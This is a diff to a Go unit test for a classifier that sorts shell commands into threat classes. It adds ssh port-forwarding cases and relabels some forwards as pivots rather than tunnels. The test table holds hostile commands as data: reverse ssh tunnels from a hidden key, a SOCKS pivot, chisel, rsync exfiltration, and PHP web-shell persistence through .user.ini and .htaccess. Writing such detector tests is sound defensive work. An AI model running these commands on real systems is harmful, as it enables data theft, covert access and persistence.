@@ -19,6 +19,12 @@ func TestClassify(t *testing.T) {
 		{"rsync -az /var/www/ backup@192.0.2.4:/srv/backups/www/", classExfilImpact},
 		{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
 		{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
+		// ssh forwarding out of this host (-L, -D: a SOCKS pivot) reaches
+		// other hosts from it; -R opens a way back in: the channel
+		{"/usr/bin/ssh -f -N -D 127.0.0.1:1080 -o ExitOnForwardFailure=yes -i /home/app/.ssh/id_ed25519 deploy@127.0.0.1", classPivot},
+		{"ssh -L 8080:10.0.0.5:80 jump", classPivot},
+		{"setsid -f ssh -i /var/tmp/.k -N -R 127.0.0.1:18070:127.0.0.1:8070 u@192.0.2.4", classTunnel},
+		{"ssh -L 8080:10.0.0.5:80 -R 9000:127.0.0.1:22 jump", classTunnel},
 		{"uname -a", classNone},
 		{"cat /etc/passwd 2>&1", classNone},
 		{"pwd; ls -la /var/www/html", classNone},
@@ -86,8 +92,8 @@ func TestClassify(t *testing.T) {
 		{"printf 'auto_prepend_file=/srv/www/cache/.s.php\\n' > /srv/www/.user.ini", classPersistence},
 		{"echo 'AddType application/x-httpd-php .jpg' >> uploads/.htaccess", classPersistence},
 		{"setsid -f ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 127.0.0.1:18070:127.0.0.1:8070 u@127.0.0.1", classTunnel},
-		{"ssh -fNL 5432:db:5432 jump", classTunnel},
-		{"ssh -D1080 -q u@h", classTunnel},
+		{"ssh -fNL 5432:db:5432 jump", classPivot},
+		{"ssh -D1080 -q u@h", classPivot},
 		{"./chisel client 10.0.0.1:8000 R:socks", classTunnel},
 		{"ssh -i k -oUserKnownHostsFile=/dev/null deploy@127.0.0.1 id; hostname", classLateral},
 		{"ssh -l deploy -n 127.0.0.1 uptime", classLateral},
